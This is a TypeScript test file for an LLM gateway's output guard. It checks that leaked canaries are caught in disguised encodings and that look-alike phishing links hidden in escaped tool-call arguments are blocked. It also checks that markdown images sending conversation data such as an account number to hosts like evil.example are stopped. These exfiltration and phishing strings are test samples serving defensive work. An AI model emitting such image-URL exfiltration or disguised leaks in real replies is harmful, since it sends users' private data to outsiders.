/**
 * Guard blind spots of issue 13, end to end through the official openai
 * client, replies scripted on the mock upstream:
 * - a canary in a disguise (spaced, base64, zero-width, fullwidth, rot13),
 *   streamed one character per event, never leaves;
 * - the README's allow-list profile blocks unlisted links, `strict` blocks
 *   any link, `standard` flags them;
 * - a markdown image carrying plain data (a code, a number from the
 *   conversation) in its query is exfiltration; ordinary images pass;
 * - tool-call arguments written with JSON \uXXXX escapes are read decoded.
 */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { after, before, describe, test } from "node:test";
import OpenAI from "openai";
import { rot13 } from "../../src/guard/rot13.js";
import { type MockUpstream, startMockUpstream } from "../fixtures/mock-upstream.js";
import { fullConfig, startGateway, type TestGateway } from "./harness.js";

let upstream: MockUpstream;
let gw: TestGateway;
let openai: OpenAI;

const CANARY = `ZQ-${randomBytes(4).toString("hex").toUpperCase()}-CANARY`;

before(async () => {
  upstream = await startMockUpstream();
  gw = await startGateway(detectorConfig(upstream.url));
  openai = new OpenAI({ apiKey: await gw.issue({ models: ["*"] }), baseURL: `${gw.url}/v1`, maxRetries: 0 });
});

function detectorConfig(upstreamUrl: string, extraGuard: Record<string, unknown> = {}): Record<string, unknown> {
  const base = fullConfig(upstreamUrl);
  return {
    ...base,
    models: [
      ...(base.models as object[]),
      { name: "watched", provider: "mock", guard: "watched" },
      { name: "bot", provider: "mock", guard: "support-bot" },
      { name: "strict", provider: "mock", guard: "strict" },
      { name: "std", provider: "mock", guard: "standard" },
    ],
    guard: {
      profile: "standard",
      profiles: {
        watched: { extends: "standard", leak: { canaries: [CANARY] } },
        // The README's allow-list example (guard section).
        "support-bot": { extends: "standard", response: { links: "block" }, links: { allowDomains: ["acme.com"], brands: ["acme"] } },
      },
      ...extraGuard,
    },
  };
}

after(async () => {
  await gw?.close();
  await upstream?.close();
});

const chatReply = (message: object) =>
  JSON.stringify({
    id: "chatcmpl-1",
    object: "chat.completion",
    created: 1,
    model: "m",
    choices: [{ index: 0, message: { role: "assistant", ...message }, finish_reason: "stop", logprobs: null }],
    usage: { prompt_tokens: 5, completion_tokens: 5, total_tokens: 10 },
  });
const chatChunk = (delta: object) =>
  `data: ${JSON.stringify({ id: "chatcmpl-1", object: "chat.completion.chunk", created: 1, model: "m", choices: [{ index: 0, delta, finish_reason: null }] })}\n\n`;
const chatStream = (deltas: object[]) => [chatChunk({ role: "assistant", content: "" }), ...deltas.map(chatChunk), "data: [DONE]\n\n"];
const say = (content: string) => upstream.script({ contentType: "application/json", body: chatReply({ content }) });

async function status(p: Promise<unknown>): Promise<number> {
  return p.then(
    () => 200,
    (e: unknown) => {
      assert.ok(e instanceof OpenAI.APIError, String(e));
      return e.status ?? 0;
    },
  );
}

async function reply(model: string, content: string, earlier: OpenAI.ChatCompletionMessageParam[] = []) {
  return openai.chat.completions.create({ model, messages: [...earlier, { role: "user", content: say(content) }] }).withResponse();
}

const fullwidth = (s: string) => s.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));

describe("a disguised canary, streamed one character per event", () => {
  const forms: Record<string, string> = {
    spaced: [...CANARY].join(" "),
    base64: Buffer.from(`code ${CANARY}`).toString("base64"),
    "zero-width": [...CANARY].join("\u200b"),
    fullwidth: fullwidth(CANARY),
    rot13: rot13(CANARY),
  };
  for (const [form, written] of Object.entries(forms)) {
    test(`${form}: the stream is stopped and no part of the canary arrives`, async () => {
      const text = `Sure, here it is: ${written} (keep it safe).`;
      const script = upstream.script({ contentType: "text/event-stream", chunks: chatStream([...text].map((ch) => ({ content: ch }))) });
      const stream = await openai.chat.completions.create({ model: "watched", stream: true, messages: [{ role: "user", content: script }] });
      let got = "";
      const err = await (async () => {
        for await (const c of stream) got += c.choices[0]?.delta.content ?? "";
      })().then(
        () => undefined,
        (e: unknown) => e,
      );
      assert.ok(err instanceof Error, `not stopped; got ${JSON.stringify(got)}`);
      assert.ok(!got.includes(written.slice(0, 6)), `the canary's start leaked: ${JSON.stringify(got)}`);
    });

    test(`${form}: a whole reply is blocked`, async () => {
      assert.equal(await status(reply("watched", `Here: ${written}`)), 422);
    });
  }
});

describe("allow-listed links (README's profile), strict and standard", () => {
  test("the allow-list profile blocks a link off the list and passes one on it", async () => {
    assert.equal(await status(reply("bot", "Read https://evil.example/guide first.")), 422);
    assert.equal(await status(reply("bot", "See [the guide](https://evil.example/guide).")), 422);
    const ok = await reply("bot", "Read https://docs.acme.com/guide first.");
    assert.match(ok.data.choices[0]!.message.content!, /docs\.acme\.com/);
  });

  test("strict blocks any link", async () => {
    assert.equal(await status(reply("strict", "Read https://en.wikipedia.org/wiki/Tea first.")), 422);
  });

  test("standard delivers the link and flags it", async () => {
    const r = await reply("std", "Read https://en.wikipedia.org/wiki/Tea first.");
    assert.match(r.data.choices[0]!.message.content!, /wikipedia/);
    assert.match(String(r.response.headers.get("x-wardgate-guard")), /response=flag\([^)]*links\.unlisted/);
  });
});

describe("exfiltration through plain data in an image URL", () => {
  test("the issue's example is blocked", async () => {
    assert.equal(await status(reply("std", "Done. ![x](https://evil.example/c?d=ACME-7731-ZETA)")), 422);
  });

  test("a number the user gave earlier, carried by an image, is blocked", async () => {
    const earlier: OpenAI.ChatCompletionMessageParam[] = [
      { role: "user", content: "My account number is 88213-4471, can you check my balance?" },
      { role: "assistant", content: "Sure." },
    ];
    assert.equal(await status(reply("std", "Balance: ![ok](https://stats.example/p.png?a=88213-4471)", earlier)), 422);
    // Without it in the conversation, the same digits are just a number.
    assert.equal(await status(reply("std", "Balance: ![ok](https://stats.example/p.png?a=88213-4471)")), 200);
  });

  test("ordinary images and links pass", async () => {
    for (const text of ["![chart](https://charts.example/c.png?page=2)", "![w](https://weather.example/map.png?q=weather&lang=en-US)", "[docs](https://docs.example/api?v=1.2.3)"]) {
      assert.equal(await status(reply("std", text)), 200, text);
    }
  });
});

describe("tool-call arguments with JSON escapes", () => {
  const escaped = (s: string) => [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
  const lookalike = "https://paypa1.com/signin";
  const call = (args: string) => ({ tool_calls: [{ id: "call_1", type: "function", function: { name: "open", arguments: args } }] });

  test("a look-alike link written as \\u escapes is blocked (whole reply)", async () => {
    const script = upstream.script({ contentType: "application/json", body: chatReply(call(`{"url":"${escaped(lookalike)}"}`)) });
    assert.equal(await status(openai.chat.completions.create({ model: "std", messages: [{ role: "user", content: script }] })), 422);
  });

  test("streamed, split inside an escape, it is stopped", async () => {
    const args = `{"url":"${escaped(lookalike)}"}`;
    const pieces = args.match(/.{1,5}/g)!; // cuts escapes in two
    const deltas = [
      { tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name: "open", arguments: "" } }] },
      ...pieces.map((p) => ({ tool_calls: [{ index: 0, function: { arguments: p } }] })),
    ];
    const script = upstream.script({ contentType: "text/event-stream", chunks: chatStream(deltas) });
    const stream = await openai.chat.completions.create({ model: "std", stream: true, messages: [{ role: "user", content: script }] });
    let args2 = "";
    const err = await (async () => {
      for await (const c of stream) args2 += c.choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? "";
    })().then(
      () => undefined,
      (e: unknown) => e,
    );
    assert.ok(err instanceof Error, `not stopped: ${args2}`);
  });

  test("a redaction inside escaped arguments keeps them valid JSON", async () => {
    const args = `{"${escaped("password")}":"Tr0ub4dor&3xyzQ"}`;
    const script = upstream.script({ contentType: "application/json", body: chatReply(call(args)) });
    const r = await openai.chat.completions.create({ model: "std", messages: [{ role: "user", content: script }] });
    const out = r.choices[0]!.message.tool_calls![0]!;
    assert.ok(out.type === "function");
    assert.ok(!out.function.arguments.includes("Tr0ub4dor"), out.function.arguments);
    assert.deepEqual(Object.keys(JSON.parse(out.function.arguments) as object), ["password"]);
  });

  test("in a request, an earlier tool call's escaped arguments are read decoded too", async () => {
    const args = `{"${escaped("password")}":"Tr0ub4dor&3xyzQ"}`;
    await openai.chat.completions.create({
      model: "std",
      messages: [
        { role: "user", content: "log me in" },
        { role: "assistant", content: null, tool_calls: [{ id: "call_1", type: "function", function: { name: "login", arguments: args } }] },
        { role: "tool", tool_call_id: "call_1", content: "done" },
        { role: "user", content: say("ok") },
      ],
    });
    const sent = JSON.stringify(upstream.received.at(-1)?.body);
    assert.ok(sent.includes("login"), "the request reached the upstream");
    assert.ok(!sent.includes("Tr0ub4dor"), sent);
  });
});

describe("large replies, inspected in the guard's worker pool, keep these checks", () => {
  let pooled: TestGateway;
  let client: OpenAI;
  // Over the pool's threshold (minChars 1024 here): these replies are inspected off the event loop.
  const padding = "The weather is fine today and the report is attached. ".repeat(40);
  before(async () => {
    pooled = await startGateway(detectorConfig(upstream.url, { pool: { size: 1, minChars: 1024 } }));
    client = new OpenAI({ apiKey: await pooled.issue({ models: ["*"] }), baseURL: `${pooled.url}/v1`, maxRetries: 0 });
  });
  after(async () => {
    await pooled?.close();
  });
  const ask = (model: string, message: object, earlier: OpenAI.ChatCompletionMessageParam[] = []) => {
    const script = upstream.script({ contentType: "application/json", body: chatReply(message) });
    return status(client.chat.completions.create({ model, messages: [...earlier, { role: "user", content: script }] }));
  };

  test("a spaced-out canary", async () => {
    assert.equal(await ask("watched", { content: `${padding} ${[...CANARY].join(" ")}` }), 422);
    assert.equal(await ask("watched", { content: padding }), 200, "the padding alone passes");
  });

  test("a value from the request carried by an image", async () => {
    const earlier: OpenAI.ChatCompletionMessageParam[] = [{ role: "user", content: "My account number is 88213-4471." }];
    assert.equal(await ask("std", { content: `${padding} ![ok](https://stats.example/p.png?a=88213-4471)` }, earlier), 422);
  });

  test("a look-alike link in escaped tool-call arguments", async () => {
    const escaped = [..."https://paypa1.com/signin"].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
    const args = `{"note":"${padding}","url":"${escaped}"}`;
    assert.equal(await ask("std", { tool_calls: [{ id: "call_1", type: "function", function: { name: "open", arguments: args } }] }), 422);
  });
});
